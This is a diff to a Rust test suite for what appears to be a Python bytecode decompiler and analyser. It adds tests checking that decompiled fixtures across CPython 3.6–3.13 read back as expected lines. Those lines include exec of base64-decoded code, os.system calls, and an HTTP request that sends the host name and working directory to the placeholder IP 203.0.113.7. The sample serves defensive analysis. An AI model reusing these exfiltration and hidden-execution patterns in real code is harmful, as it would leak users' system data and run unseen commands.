@@ -3,11 +3,19 @@
 use palisade_compiled::{Format, LineNote, MAX_VIEW, View, format_of, read};
 use std::time::{Duration, Instant};
 
-fn sample() -> Vec<u8> {
-    let path =
-        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/sample.cpython-311.pyc");
+fn fixture(name: &str) -> Vec<u8> {
+    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/data")
+        .join(name);
     std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
 }
+
+fn sample() -> Vec<u8> {
+    fixture("sample.cpython-311.pyc")
+}
+
+/// The CPython versions whose bytecode is read, as their `.pyc` tags spell them.
+const VERSIONS: [&str; 8] = ["36", "37", "38", "39", "310", "311", "312", "313"];
 
 fn line_of(view: &View, wanted: &str) -> u32 {
     let index = view
@@ -49,6 +57,75 @@ fn bytecode_reads_as_the_python_statements_it_was_compiled_from() {
     // A top-level function is headed as Python defines it; methods by their dotted name.
     line_of(&view, "def collect():");
     line_of(&view, "# code Worker.run");
+}
+
+/// The same module compiled by each CPython from 3.6 to 3.13 reads as the same
+/// statements, though the instructions differ from version to version.
+#[test]
+fn every_version_from_3_6_to_3_13_reads_as_the_same_statements() {
+    for version in VERSIONS {
+        let data = fixture(&format!("sample.cpython-{version}.pyc"));
+        let view = read(&data).unwrap().unwrap();
+        for line in [
+            "import urllib.request as request",
+            "from socket import gethostname as host",
+            "from json import *",
+            "CODES = [104, 116, 116, 112, 115]",
+            r#"exec(base64.b64decode("cHJpbnQoMSk="))"#,
+            "class Worker(object):",
+            r#"data = {"host": host(), "cwd": os.getcwd(), **kwargs}"#,
+            r#"return request.urlopen(request.Request(f"https://203.0.113.7/c?h={host()}", data=dumps(data).encode()), *args)"#,
+            r#"a = collect(1, 2, key="v")[0]"#,
+            "os.system(part)",
+            "chr(c)",
+            "return eval(s)",
+            r#"Worker().run("id")"#,
+        ] {
+            assert!(
+                view.text.lines().any(|l| l == line),
+                "{version}: no line {line:?} in\n{}",
+                view.text
+            );
+        }
+    }
+}
+
+/// CPython skips the inline cache words that follow an instruction from 3.11 on; junk
+/// written there must not change what is read.
+#[test]
+fn junk_in_cache_words_changes_nothing() {
+    let clean = read(&sample()).unwrap().unwrap();
+    let junk = read(&fixture("sample-junk-caches.cpython-311.pyc"))
+        .unwrap()
+        .unwrap();
+    assert_eq!(clean.text, junk.text);
+}
+
+/// A conditional expression inside a call keeps the call; a call assigned to a name the
+/// compiler also uses is still a call; a lambda handed to a thread runs with the module;
+/// only `__name__ == "__main__"` guards a script block.
+#[test]
+fn branches_and_compiler_names_do_not_hide_calls() {
+    for version in ["36", "311", "312", "313"] {
+        let view = read(&fixture(&format!("branches.cpython-{version}.pyc")))
+            .unwrap()
+            .unwrap();
+        let call = line_of(
+            &view,
+            r#"__module__ = exec(base64.b64decode(("cHJpbnQoJ21vZHVsZScp" or "")))"#,
+        );
+        assert_eq!(view.note_at(call), None, "{version}");
+        let lambda = view
+            .method_at_line(line_of(&view, r#"return os.system("id")"#))
+            .unwrap();
+        assert!(view.runs_on_load(lambda.0), "{version}");
+        assert_eq!(view.note_at(line_of(&view, r#"os.system("whoami")"#)), None);
+        assert_eq!(
+            view.note_at(line_of(&view, r#"os.system("hostname")"#)),
+            Some(LineNote::Inert),
+            "{version}"
+        );
+    }
 }
 
 #[test]
@@ -173,7 +250,7 @@ fn nesting_past_the_limit_is_an_error_not_a_stack_overflow() {
         m.byte(b')').byte(1);
     }
     let error = read_quickly(&m.0).unwrap_err();
-    assert!(error.reason.contains("nested deeper than 200"), "{error}");
+    assert!(error.reason.contains("nested deeper than 2000"), "{error}");
 }
 
 #[test]
